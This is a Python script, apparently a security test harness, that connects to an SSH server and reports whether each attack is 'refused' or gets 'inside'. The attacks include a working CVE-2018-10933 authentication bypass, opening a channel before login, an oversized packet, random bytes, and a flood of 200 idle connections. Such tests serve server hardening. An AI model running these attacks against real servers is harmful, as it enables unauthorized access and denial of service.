#!/usr/bin/env python3
"""A client that attacks a server: says of each attack what came of it.

Usage: intruder.py ADDRESS PORT USER PASSWORD, which only the honest one needs. One line for each: the attack's name and "refused" or "inside".
"""
import logging
import socket
import sys

import paramiko
from paramiko.common import cMSG_CHANNEL_OPEN, cMSG_USERAUTH_SUCCESS

PLACE = (sys.argv[1], int(sys.argv[2]))
PATIENCE = 20  # seconds for an answer; that there is none would be a refusal, too
CROWD = 200  # connections that say nothing


def plain():
    return socket.create_connection(PLACE, PATIENCE)


def until_end(sock):
    """Read until the other side ends it."""
    try:
        while sock.recv(65536):
            pass
    except ConnectionError:
        pass


def transport():
    found = paramiko.Transport(plain())
    found.start_client(timeout=PATIENCE)
    return found


def has_session(found):
    try:
        found.open_session(timeout=PATIENCE)
        return True
    except (paramiko.SSHException, EOFError, OSError):
        return False


def honest():
    """Who has the password gets in: else nothing here would say anything."""
    found = transport()
    found.auth_password(sys.argv[3], sys.argv[4])
    return has_session(found)


def success_by_client():
    """CVE-2018-10933: the client says that it is authenticated."""
    found = transport()
    message = paramiko.Message()
    message.add_byte(cMSG_USERAUTH_SUCCESS)
    found._send_message(message)  # pylint: disable=protected-access
    return has_session(found)


def channel_before_login():
    found = transport()
    message = paramiko.Message()
    message.add_byte(cMSG_CHANNEL_OPEN)
    message.add_string("session")
    for number in (0, 1 << 20, 1 << 15):
        message.add_int(number)
    found._send_message(message)  # pylint: disable=protected-access
    return has_session(found)


def giant_packet():
    with plain() as sock:
        sock.sendall(b"SSH-2.0-intruder\r\n")
        sock.sendall((0x7FFFFFFF).to_bytes(4, "big") + b"\x04" + b"\x14" * 40000)
        until_end(sock)
    return False


def rubbish():
    with plain() as sock:
        sock.sendall(bytes(range(256)) * 256)
        until_end(sock)
    return False


def crowd():
    """Silent connections stay open until the end of this program."""
    KEPT.extend(plain() for _ in range(CROWD))
    return False


KEPT = []
logging.getLogger("paramiko").addHandler(logging.NullHandler())
for attack in (
    honest, success_by_client, channel_before_login, giant_packet, rubbish, crowd,
):
    try:
        outcome = "inside" if attack() else "refused"
    except (paramiko.SSHException, EOFError, OSError):
        outcome = "refused"
    print(attack.__name__, outcome, flush=True)
print("done", flush=True)
sys.stdin.read()
